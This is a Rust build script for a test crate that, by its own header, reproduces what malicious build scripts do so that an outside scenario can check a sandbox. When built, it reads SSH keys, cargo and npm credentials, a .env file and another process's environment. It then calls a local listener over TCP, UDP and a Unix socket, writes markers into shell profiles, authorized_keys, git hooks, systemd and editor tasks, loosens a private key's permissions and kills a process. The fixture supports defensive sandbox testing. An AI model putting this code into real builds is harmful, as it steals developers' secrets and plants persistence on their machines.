//! Does what malicious build scripts did in the wild, and never fails: such a crate works as
//! promised. `scenario.py` tells from outside what was achieved.

use std::fs::{self, OpenOptions, Permissions};
use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::{env, thread, time::Duration};

fn main() {
    let folder = PathBuf::from(env::var_os("CARGO_MANIFEST_DIR").unwrap());
    let home = PathBuf::from(env::var_os("HOME").unwrap());
    // host/node_modules/@evil/sum/native
    let host = folder.ancestors().nth(4).unwrap().to_path_buf();
    // A real one has its server's address built in.
    let target = fs::read_to_string(folder.join("target.txt")).unwrap();
    let [port, victim, nonce] = target.split_whitespace().collect::<Vec<_>>()[..] else {
        panic!("target.txt: {target}");
    };
    let address = format!("127.0.0.1:{port}");

    steal(&home, &host, victim);
    call_home(&address, &home, nonce);
    for file in [
        home.join(".bashrc"),
        home.join(".ssh/authorized_keys"),
        home.join(".cargo/config.toml"),
        home.join(".cargo/bin/rustfmt"),
        home.join(".cache/perry/libs/libperry_runtime.a"),
        home.join(".config/systemd/user/evil.service"),
        host.join(".git/hooks/pre-commit"),
        host.join(".perry-cache/objects/evil.o"),
        host.join("node_modules/.cache/perry/evil.o"),
        host.join("node_modules/other/index.ts"),
        host.join(".vscode/tasks.json"),
        PathBuf::from("/tmp").join(nonce),
    ] {
        append(&file, &format!("# {nonce}\n"));
    }
    append(&host.join("main.ts"), "// evil\n");
    append(&folder.join("src/lib.rs"), "// evil\n");
    // Still JSON, still an object file.
    append(&host.join("package.json"), "\n");
    for object in objects(&host.join(".perry-cache/objects/host")) {
        append(&object, nonce);
    }
    let _ = fs::set_permissions(home.join(".ssh/id_ed25519"), Permissions::from_mode(0o644));
    run(&format!("kill {victim}"));
    run(&format!(
        "(sh -c 'while :; do sleep 1; done; : {nonce}' &) </dev/null >/dev/null 2>&1"
    ));
}

/// Leaves what it could read where the scenario looks for it.
fn steal(home: &Path, host: &Path, victim: &str) {
    let mut loot = String::new();
    for file in [
        home.join(".ssh/id_ed25519"),
        home.join(".cargo/credentials.toml"),
        home.join("work/other/notes.txt"),
        host.join(".env"),
    ] {
        loot += &fs::read_to_string(file).unwrap_or_default();
    }
    loot += &env::var("NPM_TOKEN").unwrap_or_default();
    if let Ok(variables) = fs::read(format!("/proc/{victim}/environ")) {
        loot += &String::from_utf8_lossy(&variables);
    }
    fs::write(
        PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("loot"),
        loot,
    )
    .unwrap();
}

fn call_home(address: &str, home: &Path, nonce: &str) {
    if let Ok(mut stream) = TcpStream::connect(address) {
        let _ = writeln!(stream, "tcp {nonce}");
    }
    if let Ok(socket) = UdpSocket::bind("127.0.0.1:0") {
        let _ = socket.send_to(format!("udp {nonce}\n").as_bytes(), address);
    }
    if let Ok(mut stream) = UnixStream::connect(home.join("agent.sock")) {
        let _ = writeln!(stream, "unix {nonce}");
    }
    // The listener is a thread of a busy machine.
    thread::sleep(Duration::from_millis(50));
}

fn append(file: &Path, text: &str) {
    let _ = fs::create_dir_all(file.parent().unwrap());
    if let Ok(mut file) = OpenOptions::new().append(true).create(true).open(file) {
        let _ = file.write_all(text.as_bytes());
    }
}

fn objects(folder: &Path) -> Vec<PathBuf> {
    fs::read_dir(folder)
        .map(|entries| entries.flatten().map(|entry| entry.path()).collect())
        .unwrap_or_default()
}

fn run(script: &str) {
    let _ = Command::new("sh").args(["-c", script]).status();
}
